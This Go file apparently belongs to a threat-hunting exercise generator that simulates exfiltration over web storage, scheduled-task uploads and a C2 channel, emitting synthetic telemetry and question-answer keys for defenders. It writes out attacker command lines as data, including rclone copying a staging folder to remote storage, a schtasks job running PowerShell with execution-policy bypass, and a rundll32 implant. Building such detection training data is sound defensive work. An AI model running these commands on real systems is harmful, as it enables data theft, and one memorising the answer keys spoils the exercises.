package techniques

import (
	"fmt"
	"time"

	"github.com/polisai/huntgen/pkg/domain"
	"github.com/polisai/huntgen/pkg/events"
)

func newExfil(name domain.VariantName, aliases []string, desc string, def bool, run func(*attack) (domain.Cohort, []domain.QARecord, error)) *Technique {
	return &Technique{
		Stage:       domain.StageExfiltration,
		Name:        name,
		Aliases:     aliases,
		Description: desc,
		Default:     def,
		run:         run,
		validate:    requireEndpoints,
	}
}

var exfiltrationOverWeb = newExfil("exfiltration_over_web", []string{"exfiltration_over_web_service", "t1567"},
	"Large uploads to a cloud storage endpoint with rclone.", true, runExfilOverWeb)

var automatedExfiltration = newExfil("automated_exfiltration", []string{"t1020"},
	"A scheduled task uploads staged data in fixed-size chunks.", false, runAutomatedExfil)

var exfiltrationOverC2 = newExfil("exfiltration_over_c2_channel", []string{"t1041"},
	"Data sent through the implant's C2 connection to the attacker server.", false, runExfilOverC2)

// endpoints returns the configured endpoints and a stable IP for each.
func (a *attack) endpoints() ([]string, map[string]string) {
	eps := a.in.Config.StringSlice("plausible_endpoints")
	ips := make(map[string]string, len(eps))
	for _, ep := range eps {
		ips[ep] = a.f.IPv4Address()
	}
	return eps, ips
}

func runExfilOverWeb(a *attack) (domain.Cohort, []domain.QARecord, error) {
	if err := requireVictims(a); err != nil {
		return nil, nil, err
	}
	if err := requireEndpoints(a.in.Config); err != nil {
		return nil, nil, err
	}
	a.after(time.Hour, 12*time.Hour)
	eps, ips := a.endpoints()
	shell := events.Process{FileName: "cmd.exe", CommandLine: "cmd.exe"}

	var offset time.Duration
	var total int64
	for _, v := range a.victims() {
		acct := accountOf(v)
		dev := a.device(acct)
		ep := eps[a.f.Number(0, len(eps)-1)]
		cmd := fmt.Sprintf(`rclone.exe copy C:\ProgramData\stage remote:%s --transfers 8`, ep)
		rclone := events.Process{FileName: "rclone.exe", CommandLine: cmd}
		offset += time.Duration(a.f.Number(300, 3600)) * time.Second
		a.emit(events.DeviceProcessEvents, events.ProcessEvent(a.f, a.at(offset), acct, dev, "rclone.exe", `C:\ProgramData`, cmd, shell))
		for range a.f.Number(2, 5) {
			sent := int64(a.f.Number(50, 400)) << 20
			total += sent
			offset += time.Duration(a.f.Number(20, 240)) * time.Second
			a.emit(events.DeviceNetworkEvents, events.NetworkEvent(a.f, a.at(offset), acct, dev, rclone, events.Connection{
				RemoteIP: ips[ep], RemoteURL: ep, Port: 443, BytesSent: sent,
			}))
		}
	}

	uploads := a.produced(events.DeviceNetworkEvents)
	qa := []domain.QARecord{
		domain.QA("Which tool uploaded data to external storage?", "rclone.exe"),
		domain.QA("Which endpoints received uploads from rclone.exe?", values(uploads, "RemoteUrl", nil)),
		domain.QA("What is the total number of bytes sent by rclone.exe?", total),
		domain.QA("How many devices uploaded data with rclone.exe?", distinct(uploads, "DeviceName", nil)),
	}
	return a.victims(), qa, nil
}

func runAutomatedExfil(a *attack) (domain.Cohort, []domain.QARecord, error) {
	if err := requireVictims(a); err != nil {
		return nil, nil, err
	}
	if err := requireEndpoints(a.in.Config); err != nil {
		return nil, nil, err
	}
	a.after(time.Hour, 12*time.Hour)
	eps, ips := a.endpoints()
	task := "Update" + randomToken(a.f, 4)
	every := time.Duration(a.in.Config.Int("interval_minutes", 15)) * time.Minute
	chunk := int64(a.in.Config.Int("chunk_bytes", 5<<20))
	script := `C:\ProgramData\` + task + ".ps1"
	uploader := events.Process{FileName: "powershell.exe", CommandLine: "powershell.exe -ep bypass -f " + script}

	var total int64
	for i, v := range a.victims() {
		acct := accountOf(v)
		dev := a.device(acct)
		ep := eps[i%len(eps)]
		base := time.Duration(i) * time.Minute
		cmd := fmt.Sprintf(`schtasks.exe /create /tn %s /tr "%s" /sc minute /mo %d`, task, uploader.CommandLine, int(every/time.Minute))
		a.emit(events.DeviceProcessEvents, events.ProcessEvent(a.f, a.at(base), acct, dev, "schtasks.exe", `C:\Windows\System32`, cmd, events.Process{FileName: "cmd.exe", CommandLine: "cmd.exe"}))
		a.emit(events.DeviceEvents, events.DeviceEvent(a.f, a.at(base+time.Second), acct, dev, events.ActionScheduledTask, task, `C:\Windows\System32\Tasks`, events.Process{FileName: "schtasks.exe", CommandLine: cmd}))
		for n := range a.f.Number(3, 8) {
			total += chunk
			a.emit(events.DeviceNetworkEvents, events.NetworkEvent(a.f, a.at(base+time.Duration(n+1)*every), acct, dev, uploader, events.Connection{
				RemoteIP: ips[ep], RemoteURL: ep, Port: 443, BytesSent: chunk,
			}))
		}
	}

	uploads := a.produced(events.DeviceNetworkEvents)
	qa := []domain.QARecord{
		domain.QA("What is the name of the scheduled task that uploads data?", task),
		domain.QA(fmt.Sprintf("How many minutes apart are the uploads made by %s?", task), int(every/time.Minute)),
		domain.QA(fmt.Sprintf("What is the total number of bytes uploaded by %s?", task), total),
		domain.QA(fmt.Sprintf("Which endpoints received uploads from %s?", task), values(uploads, "RemoteUrl", nil)),
	}
	return a.victims(), qa, nil
}

func runExfilOverC2(a *attack) (domain.Cohort, []domain.QARecord, error) {
	if err := requireVictims(a); err != nil {
		return nil, nil, err
	}
	if err := requireEndpoints(a.in.Config); err != nil {
		return nil, nil, err
	}
	a.after(30*time.Minute, 6*time.Hour)
	eps, _ := a.endpoints()
	ip := a.in.Attacker["ExternalServerIP"]
	implant := events.Process{FileName: "rundll32.exe", CommandLine: `rundll32.exe C:\ProgramData\` + a.f.Word() + ".dll,StartW"}

	var offset time.Duration
	var total int64
	for _, v := range a.victims() {
		acct := accountOf(v)
		dev := a.device(acct)
		ep := eps[a.f.Number(0, len(eps)-1)]
		for range a.f.Number(2, 6) {
			sent := int64(a.f.Number(10, 120)) << 20
			total += sent
			offset += time.Duration(a.f.Number(60, 900)) * time.Second
			a.emit(events.DeviceNetworkEvents, events.NetworkEvent(a.f, a.at(offset), acct, dev, implant, events.Connection{
				RemoteIP: ip, RemoteURL: ep, Port: 443, BytesSent: sent,
			}))
		}
	}

	uploads := a.produced(events.DeviceNetworkEvents)
	qa := []domain.QARecord{
		domain.QA("Which IP address received data over the existing C2 channel?", ip),
		domain.QA(fmt.Sprintf("What is the total number of bytes sent to %s?", ip), total),
		domain.QA(fmt.Sprintf("Which host names were used for connections to %s?", ip), values(uploads, "RemoteUrl", nil)),
		domain.QA(fmt.Sprintf("How many devices sent data to %s?", ip), distinct(uploads, "DeviceName", nil)),
	}
	return a.victims(), qa, nil
}
